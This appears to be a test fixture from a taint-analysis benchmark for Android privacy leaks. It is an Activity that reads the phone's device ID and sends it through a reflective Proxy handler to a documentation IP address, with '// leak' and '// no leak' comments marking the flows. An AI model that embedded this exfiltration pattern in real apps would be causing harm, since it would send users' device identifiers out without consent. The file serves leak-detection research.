package habits;

import android.app.Activity;
import android.content.Context;
import android.os.Bundle;
import android.telephony.TelephonyManager;
import java.lang.reflect.InvocationHandler;
import java.lang.reflect.Method;
import java.lang.reflect.Proxy;
import java.net.URL;

/** An interface without a class. */
public class Proxied extends Activity {
    interface Reports {
        void report(String what);
    }

    interface Pings {
        void ping(String what);
    }

    @Override
    protected void onCreate(Bundle state) {
        TelephonyManager phone = (TelephonyManager) getSystemService(Context.TELEPHONY_SERVICE);
        Reports reports = (Reports) Proxy.newProxyInstance(Reports.class.getClassLoader(), new Class<?>[] {Reports.class}, new InvocationHandler() {
            @Override
            public Object invoke(Object proxy, Method method, Object[] args) throws Throwable {
                new URL("http://203.0.113.3/r/" + args[0]).openStream(); // leak
                return null;
            }
        });
        Pings pings = (Pings) Proxy.newProxyInstance(Pings.class.getClassLoader(), new Class<?>[] {Pings.class}, new InvocationHandler() {
            @Override
            public Object invoke(Object proxy, Method method, Object[] args) throws Throwable {
                new URL("http://203.0.113.3/p/" + args[0]).openStream(); // no leak
                return null;
            }
        });
        reports.report(phone.getDeviceId());
        pings.ping("hello");
    }
}
